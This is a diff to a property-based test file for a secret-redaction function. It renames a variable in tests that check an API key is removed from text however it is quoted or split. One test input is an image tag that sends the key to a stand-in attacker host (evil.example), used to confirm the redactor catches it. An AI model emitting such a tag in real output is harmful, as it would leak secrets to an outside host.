@@ -33,19 +33,19 @@ describe('a key that a service quotes', () => {
     ['its end alone', `…${key.slice(-10)}`],
     ['in a tag', `<img src="https://evil.example/${key}">`],
   ])('is gone when it is told %s (S41, C12)', (_how, quoted) => {
-    const told = redact(`Before. ${quoted} After.`);
-    expect(lettersOf(told)).not.toMatch(/canary7|f3a9e2|1d4b8c/);
-    expect(told).toMatch(/^Before\..*After\.$/s);
+    const redacted = redact(`Before. ${quoted} After.`);
+    expect(lettersOf(redacted)).not.toMatch(/canary7|f3a9e2|1d4b8c/);
+    expect(redacted).toMatch(/^Before\..*After\.$/s);
   });
 
   it('is gone however the ways are mixed, and the words around it stay (S41)', () => {
     fc.assert(
       fc.property(fc.array(quotedLetter, { minLength: 1 }), keys, fc.nat(), (ways, secret, seed) => {
         const quoted = [...secret].map((c, i) => ways[(seed + i) % ways.length]?.(c) ?? c).join('');
-        const told = redactKey(secret)(`The key: (${quoted}) is not known.`);
-        expect(runsOf(secret).filter((run) => lettersOf(told).includes(run))).toEqual([]);
-        expect(told.startsWith('The key: (')).toBe(true);
-        expect(told.endsWith(') is not known.')).toBe(true);
+        const redacted = redactKey(secret)(`The key: (${quoted}) is not known.`);
+        expect(runsOf(secret).filter((run) => lettersOf(redacted).includes(run))).toEqual([]);
+        expect(redacted.startsWith('The key: (')).toBe(true);
+        expect(redacted.endsWith(') is not known.')).toBe(true);
       }),
     );
   });
@@ -83,10 +83,10 @@ describe('in pieces', () => {
   it('hides the key, cut anywhere, and loses no word around it (S41, C12)', () => {
     fc.assert(
       fc.property(fc.array(fc.nat({ max: 60 })), keys, (cuts, secret) => {
-        const told = inPieces(secret, cut(`It was ${secret}, I think; it was ${secret.slice(3)}.`, cuts));
-        expect(runsOf(secret).filter((run) => lettersOf(told).includes(run))).toEqual([]);
-        expect(told.startsWith('It was ')).toBe(true);
-        expect(told).toMatch(/, I think; it was .*\.$/s);
+        const redacted = inPieces(secret, cut(`It was ${secret}, I think; it was ${secret.slice(3)}.`, cuts));
+        expect(runsOf(secret).filter((run) => lettersOf(redacted).includes(run))).toEqual([]);
+        expect(redacted.startsWith('It was ')).toBe(true);
+        expect(redacted).toMatch(/, I think; it was .*\.$/s);
       }),
     );
   });
